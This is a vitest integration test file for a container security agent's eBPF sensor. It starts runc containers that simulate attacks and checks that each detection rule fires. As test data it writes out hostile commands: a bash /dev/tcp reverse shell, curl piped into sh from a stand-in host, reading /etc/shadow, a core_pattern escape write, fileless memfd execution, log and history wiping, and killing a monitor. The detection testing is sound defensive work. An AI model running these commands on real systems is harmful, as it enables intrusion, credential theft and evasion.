import { existsSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NodeAgent, type AgentAlert, type ExecEvent } from '../../src/agent/index.js';
import { runCli } from '../support/cli.js';
import { containerAlerts } from './collect.js';
import { containerName, REVERSE_SHELL, RuncLab, runcAvailable, type ContainerSpec } from './runc.js';

/**
 * The eBPF sensor (bpftrace, tracepoints) against real runc containers from the debian12
 * minbase image: processes too short for /proc polling, a reverse shell over loopback and a
 * binary written at run time, then `palisade agent --once --duration 20s --format json` over
 * containers each doing one attack in a loop. bpftrace compiles its probes for tens of seconds
 * on a loaded machine, hence the long timeouts.
 */
function bpftraceAvailable(): boolean {
  const present = spawnSync('sh', ['-c', 'command -v bpftrace']).status === 0;
  if (!present && process.env.CI === 'true') throw new Error('bpftrace not installed (scripts/install-test-deps.sh installs it)');
  return present;
}
const available = runcAvailable() && bpftraceAvailable();

describe.skipIf(!available)('eBPF sensor on real containers (runc)', () => {
  let lab: RuncLab;
  let agent: NodeAgent;

  beforeAll(async () => {
    lab = RuncLab.create();
    agent = new NodeAgent({ node: 'ebpf-node', sensor: 'ebpf', watchFiles: false });
    await agent.start();
  }, 240_000);

  afterAll(async () => {
    await agent?.stop();
    lab?.cleanup();
  }, 60_000);

  const alertsFor = (name: string, until: (alerts: AgentAlert[]) => boolean, timeoutMs = 15_000): Promise<AgentAlert[]> =>
    containerAlerts(agent, name, until, timeoutMs, 300);

  it('says it runs the eBPF sensor', () => {
    expect(agent.health()).toEqual({ sensor: 'ebpf', lostEvents: 0 });
  });

  it('attributes a process that lived about a millisecond to its container, with its ancestry', async () => {
    const name = containerName('short');
    try {
      // perl (a web runtime to the rules) runs `id` once: it exits within a few milliseconds.
      await lab.run(name, { args: ['/usr/bin/perl', '-e', 'sleep 1; system("/usr/bin/id", "-u"); sleep 60;'] });
      const alerts = await alertsFor(name, (a) => a.some((x) => x.rule === 'agent.web-shell'));
      const shell = alerts.find((a) => a.rule === 'agent.web-shell');
      expect(shell, JSON.stringify(alerts.map((a) => a.rule))).toBeDefined();
      const event = shell!.evidence[0]!.event as ExecEvent;
      expect(event).toMatchObject({ kind: 'exec', source: 'ebpf', mainProcess: false, container: { id: name, runtime: 'runc' } });
      expect(event.process).toMatchObject({ name: 'id', exe: '/usr/bin/id', argv: ['/usr/bin/id', '-u'] });
      expect(existsSync(`/proc/${event.process.pid}`) && event.process.pid !== 0 ? spawnSync('cat', [`/proc/${event.process.pid}/cmdline`]).stdout.toString() : '').not.toContain('/usr/bin/id');
      expect(shell!.evidence[0]!.processTree.map((p) => p.name).slice(0, 2)).toEqual(['id', 'perl']);
    } finally {
      lab.kill(name);
    }
  }, 60_000);

  it('sees a reverse shell over loopback inside the container: bash -i with its stdin on the socket it connected', async () => {
    const name = containerName('revshell');
    try {
      await lab.run(name, { args: ['/bin/bash', '-c', REVERSE_SHELL] });
      const bySocket = (a: AgentAlert) => a.rule === 'agent.reverse-shell' && a.evidence[0]!.event.process?.stdin?.type === 'socket';
      const alerts = await alertsFor(name, (a) => a.some(bySocket));
      const shell = alerts.find(bySocket);
      expect(shell, JSON.stringify(alerts.map((a) => a.rule))).toBeDefined();
      expect(shell!.evidence[0]!.event).toMatchObject({ source: 'ebpf', process: { name: 'bash', argv: ['bash', '-i'], stdin: { type: 'socket', remote: '127.0.0.1:4444' } } });
    } finally {
      lab.kill(name);
    }
  }, 60_000);

  it('flags binary drift: a program written into the container after it started, then executed', async () => {
    const name = containerName('drift');
    try {
      await lab.run(name, { args: ['/bin/bash', '-c', 'sleep 1.5; cp /bin/true /work/payload; /work/payload; /bin/true; sleep 60'], tmpfs: ['/work'] });
      const alerts = await alertsFor(name, (a) => a.some((x) => x.rule === 'agent.binary-drift'));
      const drift = alerts.filter((a) => a.rule === 'agent.binary-drift');
      expect(drift.length, JSON.stringify(alerts.map((a) => a.rule))).toBe(1); // /bin/true from the image does not fire
      const event = drift[0]!.evidence[0]!.event as ExecEvent;
      expect(event).toMatchObject({ source: 'ebpf', process: { exe: '/work/payload' }, program: { writtenAfterStart: true } });
      expect(event.program!.ageSeconds).toBeLessThan(60);
    } finally {
      lab.kill(name);
    }
  }, 60_000);

  it('flags binary drift on an overlay root (as containerd gives it): the dropped binary is in the upper layer, /bin/ls from the image is not', async () => {
    const name = containerName('ovl');
    try {
      // The image is usr-merged (/bin -> usr/bin): the copy lands in upper/usr/bin, found through the image's symlink.
      await lab.run(name, { args: ['/bin/bash', '-c', 'sleep 1.5; cp /bin/true /bin/dropped; /bin/dropped; /bin/ls / >/dev/null; sleep 60'], overlay: true });
      const events: ExecEvent[] = [];
      const alerts: AgentAlert[] = [];
      const deadline = Date.now() + 20_000;
      while (Date.now() < deadline && !(alerts.some((a) => a.rule === 'agent.binary-drift') && events.some((e) => e.process.exe === '/bin/ls'))) {
        const collection = await agent.collect();
        events.push(...collection.events.filter((e): e is ExecEvent => e.kind === 'exec' && e.container?.id === name));
        alerts.push(...collection.alerts.filter((a) => a.resource.id === name));
        await new Promise((r) => setTimeout(r, 300));
      }
      const drift = alerts.filter((a) => a.rule === 'agent.binary-drift');
      expect(drift.map((a) => (a.evidence[0]!.event as ExecEvent).process.exe), JSON.stringify(alerts.map((a) => a.rule))).toEqual(['/bin/dropped']);
      expect((drift[0]!.evidence[0]!.event as ExecEvent).program).toMatchObject({ upperLayer: true, layerPath: `${lab.dir}/${name}/upper/usr/bin/dropped` });
      // Must not fire: ls as the image shipped it, found in the lower layer.
      const ls = events.find((e) => e.process.exe === '/bin/ls');
      expect(ls?.program).toMatchObject({ upperLayer: false, layerPath: `${lab.rootfs}/usr/bin/ls` });
    } finally {
      lab.kill(name);
    }
  }, 60_000);

  it('sees timestomping and kills: utime on a dropped binary, touch -r, a security tool killed, 25 processes killed at once', async () => {
    const name = containerName('stomp');
    const script = [
      'sleep 1.5; cp /bin/true /usr/local/bin/kworkerd',
      'perl -e \'utime 1663687647, 1663687647, "/usr/local/bin/kworkerd"\'', // fires: utimes(2) with a path
      'touch -r /bin/ls /usr/local/bin/kworkerd', // fires: touch -r on a system directory (futimens: the exec rule)
      'touch /usr/local/bin/fresh', // quiet: times set to now
      'cp /bin/sleep /usr/local/bin/falco; /usr/local/bin/falco 60 & sleep 0.3; kill -9 $!', // fires: a monitor killed
      'sleep 61 & sleep 0.3; kill $!', // quiet for security-tool-killed
      'for i in $(seq 25); do sleep 62 & done; sleep 0.3; kill -9 $(jobs -p)', // fires once: mass kill
      'sleep 60',
    ].join('; ');
    try {
      await lab.run(name, { args: ['/bin/bash', '-c', script], overlay: true });
      const wanted = ['agent.timestamp-tampering', 'agent.security-tool-killed', 'agent.mass-process-kill'];
      const alerts = await alertsFor(name, (a) => wanted.every((w) => a.some((x) => x.rule === w)) && a.filter((x) => x.rule === 'agent.timestamp-tampering').length >= 2, 20_000);
      const rules = (rule: string) => alerts.filter((a) => a.rule === rule).map((a) => a.evidence[0]!.event);
      const stomps = rules('agent.timestamp-tampering');
      expect(stomps.map((e) => e.kind).sort(), JSON.stringify(alerts.map((a) => a.rule))).toEqual(['exec', 'syscall']);
      expect(stomps.find((e) => e.kind === 'syscall')).toMatchObject({ source: 'ebpf', call: 'utimensat', args: { path: '/usr/local/bin/kworkerd', mtime: '2022-09-20T15:27:27.000Z' }, process: { name: 'perl' } });
      expect(stomps.filter((e) => e.process?.argv.includes('/usr/local/bin/fresh') || (e.kind === 'syscall' && e.args.path === '/usr/local/bin/fresh'))).toEqual([]);
      const killed = rules('agent.security-tool-killed');
      expect(killed).toHaveLength(1);
      expect(killed[0]).toMatchObject({ call: 'kill', args: { signal: 9, signalName: 'SIGKILL', targetName: 'falco', targetExe: '/usr/local/bin/falco' }, process: { name: 'bash' } });
      const mass = rules('agent.mass-process-kill');
      expect(mass).toHaveLength(1);
      expect(mass[0]).toMatchObject({ call: 'kill', args: { burst: 1, targets: 20 } });
    } finally {
      lab.kill(name);
    }
  }, 60_000);
});

/**
 * The built CLI as users run it (the bundle in dist/bin/), not the command in-process: so this also
 * proves the bundle finds the bpftrace script and the rules that ship beside the compiled code.
 */
async function agentOnceJson(args: string[]): Promise<OnceJson> {
  const run = await runCli(['agent', '--once', '--format', 'json', ...args], { timeoutMs: 280_000 });
  if (run.code !== 0) throw new Error(`palisade agent exited ${run.code}: ${run.stderr}`);
  return JSON.parse(run.stdout) as OnceJson;
}

interface OnceJson {
  node: string;
  events: number;
  sensor: { sensor: string; lostEvents: number };
  alerts: { rule: string; resource: { kind: string; id: string }; count: number; evidence: { event: { source: string } }[] }[];
}

/** One container per attack, each repeating it every second while the agent runs. */
const ATTACKS: { rule: string; what: string; spec: ContainerSpec }[] = [
  { rule: 'agent.web-shell', what: 'a 1 ms `id` under perl', spec: { args: ['/usr/bin/perl', '-e', 'while (1) { system("/usr/bin/id", "-u"); sleep 1 }'] } },
  { rule: 'agent.reverse-shell', what: 'bash -i on a loopback socket', spec: { args: ['/bin/bash', '-c', 'perl -MIO::Socket::INET -e \'my $s = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 4444, Listen => 5, ReuseAddr => 1) or die; while (my $c = $s->accept) { print $c "exit\\n"; close $c }\' & sleep 0.5; while true; do bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" >/dev/null 2>&1; sleep 1; done'] } },
  { rule: 'agent.binary-drift', what: 'a binary written at run time', spec: { args: ['/bin/bash', '-c', 'cp /bin/true /work/payload; while true; do /work/payload; sleep 1; done'], tmpfs: ['/work'] } },
  { rule: 'agent.crypto-miner', what: 'a stratum command line', spec: { args: ['/bin/bash', '-c', 'while true; do /bin/true -o stratum+tcp://pool.example:3333 -u wallet; sleep 1; done'] } },
  { rule: 'agent.fileless-execution', what: 'exec of a memfd', spec: { args: ['/usr/bin/perl', '-e', 'open(my $i, "<", "/bin/true") or die; binmode $i; local $/; my $code = <$i>; while (1) { my $pid = fork(); if ($pid == 0) { my $fd = syscall(319, my $n = "x", 0); open(my $o, ">&=", $fd) or die; syswrite($o, $code); exec { "/proc/self/fd/$fd" } "kworker" or die "exec: $!"; } waitpid($pid, 0); sleep 1 }'] } },
  { rule: 'agent.container-escape', what: 'mount and a core_pattern write', spec: { args: ['/bin/bash', '-c', 'while true; do mount -t tmpfs none /mnt 2>/dev/null; echo "|/tmp/x" 2>/dev/null > /proc/sys/kernel/core_pattern; sleep 1; done'] } },
  { rule: 'agent.namespace-created', what: 'unshare -m', spec: { args: ['/bin/bash', '-c', 'while true; do unshare -m true 2>/dev/null; sleep 1; done'] } },
  { rule: 'agent.ptrace-injection', what: 'PTRACE_ATTACH to pid 1', spec: { args: ['/usr/bin/perl', '-e', 'while (1) { syscall(101, 16, 1, 0, 0); sleep 1 }'] } },
  { rule: 'agent.sensitive-file-read', what: 'cat /etc/shadow', spec: { args: ['/bin/bash', '-c', 'while true; do cat /etc/shadow >/dev/null; sleep 1; done'] } },
  { rule: 'agent.cloud-metadata-access', what: 'a connect to 169.254.169.254', spec: { args: ['/usr/bin/perl', '-MIO::Socket::INET', '-e', 'while (1) { IO::Socket::INET->new(PeerAddr => "169.254.169.254", PeerPort => 80, Timeout => 1); sleep 1 }'] } },
  { rule: 'agent.tunnel-tool', what: 'chisel', spec: { args: ['/bin/bash', '-c', 'cp /bin/true /work/chisel; while true; do /work/chisel client 203.0.113.5:8000 R:socks; sleep 1; done'], tmpfs: ['/work'] } },
  { rule: 'agent.attack-tool', what: 'nmap', spec: { args: ['/bin/bash', '-c', 'cp /bin/true /work/nmap; while true; do /work/nmap -sS 10.0.0.0/24; sleep 1; done'], tmpfs: ['/work'] } },
  { rule: 'agent.log-tampering', what: 'a log truncated and deleted', spec: { args: ['/bin/bash', '-c', 'while true; do echo x >> /var/log/app.log; : > /var/log/app.log; rm -f /var/log/app.log; sleep 1; done'], tmpfs: ['/var/log'] } },
  { rule: 'agent.history-cleared', what: 'bash history truncated', spec: { args: ['/bin/bash', '-c', 'while true; do echo ls >> /root/.bash_history; : > /root/.bash_history; sleep 1; done'], tmpfs: ['/root'] } },
  { rule: 'agent.persistence-tool', what: 'nohup', spec: { args: ['/bin/bash', '-c', 'while true; do nohup true >/dev/null 2>&1; sleep 1; done'] } },
  { rule: 'agent.test-alert', what: 'the EICAR-style test', spec: { args: ['/bin/bash', '-c', 'cp /bin/echo /work/asc_alerttest_662jfi039n; while true; do /work/asc_alerttest_662jfi039n testing eicar pipe >/dev/null; sleep 1; done'], tmpfs: ['/work'] } },
  { rule: 'agent.download-and-run', what: 'curl piped into sh', spec: { args: ['/bin/bash', '-c', 'while true; do bash -c "curl -fsSL http://203.0.113.9/x.sh | sh" >/dev/null 2>&1; sleep 1; done'] } },
  { rule: 'agent.package-manager-in-container', what: 'apt-get', spec: { args: ['/bin/bash', '-c', 'while true; do apt-get -v >/dev/null; sleep 1; done'] } },
  { rule: 'agent.ssh-server-in-container', what: 'a listener on port 22', spec: { args: ['/usr/bin/perl', '-MIO::Socket::INET', '-e', 'while (1) { my $s = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => 22, Listen => 5, ReuseAddr => 1) or die "listen: $!"; sleep 1; close $s }'] } },
];

describe.skipIf(!available)('palisade agent --once --sensor ebpf over attacking containers', () => {
  let lab: RuncLab;
  const names = new Map<string, string>();

  beforeAll(async () => {
    lab = RuncLab.create();
    for (const attack of ATTACKS) {
      const name = containerName(attack.rule.replace('agent.', '').slice(0, 12));
      names.set(attack.rule, name);
      await lab.run(name, attack.spec);
    }
  }, 180_000);

  afterAll(() => lab?.cleanup(), 120_000);

  it(`reports ${ATTACKS.length} rules, each on the container that did it`, async () => {
    const result = await agentOnceJson(['--sensor', 'ebpf', '--duration', '20s', '--interval', '1s', '--node', 'ebpf-cli']);
    expect(result.sensor).toEqual({ sensor: 'ebpf', lostEvents: 0 });
    const missing: string[] = [];
    for (const attack of ATTACKS) {
      const name = names.get(attack.rule)!;
      const alert = result.alerts.find((a) => a.rule === attack.rule && a.resource.kind === 'container' && a.resource.id === name);
      if (!alert) missing.push(`${attack.rule} (${attack.what}): container had ${JSON.stringify(result.alerts.filter((a) => a.resource.id === name).map((a) => a.rule))}`);
    }
    expect(missing).toEqual([]);
    // Every attack was seen by the kernel sensor, not by /proc polling.
    const bySensor = result.alerts.filter((a) => [...names.values()].includes(a.resource.id)).flatMap((a) => a.evidence.map((e) => e.event.source));
    expect(new Set(bySensor)).toContain('ebpf');
  }, 300_000);
});
